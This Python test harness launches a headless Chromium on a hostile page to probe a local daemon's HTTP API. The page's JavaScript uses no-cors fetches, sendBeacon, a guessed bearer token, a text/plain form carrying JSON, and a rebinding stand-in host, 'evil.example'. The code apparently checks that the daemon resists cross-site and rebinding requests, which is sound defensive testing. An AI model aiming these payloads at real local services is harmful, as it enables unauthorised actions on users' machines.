"""A web page that attacks a port of this machine, in a real headless Chromium.

The page is served to the browser under a name of its own. It tries what a page can without asking,
and tells at the end what it got to see.
"""

import json
import subprocess
import tempfile
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from tools import require

NAME = "evil.example"
"""What the browser is told to take for 127.0.0.1, as after a rebinding."""
SECONDS = 120

PAGE = """<!doctype html><meta charset="utf-8"><title>A page</title>
<form id="form" method="post" enctype="text/plain" target="sink" action="FIRST/v1/drafts">
<input name='DRAFT_HEAD' value='DRAFT_TAIL'></form>
<iframe name="sink"></iframe>
<img src="FIRST/v1/status"><script src="FIRST/v1/openapi.json" onerror="1"></script>
<script>
const seen = {};
const draft = DRAFT;
const json = {"Content-Type": "application/json"};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    seen[name] = answer.type + " " + answer.status + " " + (await answer.text()).length;
  } catch (error) { seen[name] = "failed"; }
}
async function attack() {
  for (const [name, base] of Object.entries(BASES)) {
    const post = {method: "POST", body: draft};
    await attempt(name + " no-cors", base + "/v1/drafts", {...post, mode: "no-cors"});
    await attempt(name + " text", base + "/v1/drafts", post);
    await attempt(name + " json", base + "/v1/drafts", {...post, headers: json});
    await attempt(name + " guess", base + "/v1/status", {headers: {Authorization: "Bearer x"}});
    await attempt(name + " get", base + "/v1/status", {});
    await attempt(name + " get no-cors", base + "/v1/status", {mode: "no-cors"});
    navigator.sendBeacon(base + "/v1/jobs/train", '{"account":"home"}');
  }
  document.getElementById("form").submit();
  await new Promise(done => setTimeout(done, 1000));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
}
attack();
</script>"""


@dataclass(slots=True)
class Site:
    """A server for a page; `hits` are the requests to all but the page, and `report` what it saw.

    A second one stands in for a daemon without a gate, to show what arrives.
    """

    page: str = ""
    hits: list[tuple[str, str, dict[str, str], bytes]] = field(default_factory=list)
    report: dict[str, Any] = field(default_factory=dict)
    reported: threading.Event = field(default_factory=threading.Event)
    port: int = 0

    def take(self, method: str, path: str, headers: dict[str, str], body: bytes) -> str:
        if path == "/report":
            self.report = json.loads(body)
            self.reported.set()
        elif path != "/" and method != "OPTIONS":
            self.hits.append((method, path, headers, body))
        return self.page


@contextmanager
def serving(site: Site) -> Iterator[None]:
    """The site on a free port of 127.0.0.1."""

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            headers = {name.lower(): value for name, value in self.headers.items()}
            page = site.take(self.command, self.path, headers, body).encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        do_GET = do_POST = do_OPTIONS = answer  # noqa: N815  # as the library calls them

        def log_message(self, *_: object) -> None:
            """No noise."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    site.port = server.server_port
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def attacked_by_a_page(port: int, draft: dict[str, Any], name: str = "127.0.0.1") -> Site:
    """Open the page in a browser, as from `name`, and wait for its report."""
    content = json.dumps(draft)
    head, tail = content[:-1] + ', "x": "', '"}'  # a form sends name=value: JSON with a `=` in it
    bases = {"port": f"http://127.0.0.1:{port}", "name": f"http://{NAME}:{port}"}
    page = PAGE.replace("FIRST", bases["port"]).replace("BASES", json.dumps(bases))
    page = page.replace("DRAFT_HEAD", head).replace("DRAFT_TAIL", tail)
    site = Site(page=page.replace("DRAFT", json.dumps(content)))
    with serving(site), tempfile.TemporaryDirectory(prefix="tt") as profile:
        browser = subprocess.Popen(
            [
                require("chromium", "chromium"),
                *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic"),
                *("--no-first-run", "--disable-background-networking", "--disable-sync"),
                *("--disable-component-update", "--disable-dev-shm-usage"),
                f"--user-data-dir={profile}",
                f"--host-resolver-rules=MAP {NAME} 127.0.0.1",
                f"http://{name}:{site.port}/",
            ],
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        try:
            assert site.reported.wait(SECONDS), "the page reported nothing"
        finally:
            browser.terminate()
            browser.wait(SECONDS)
    return site
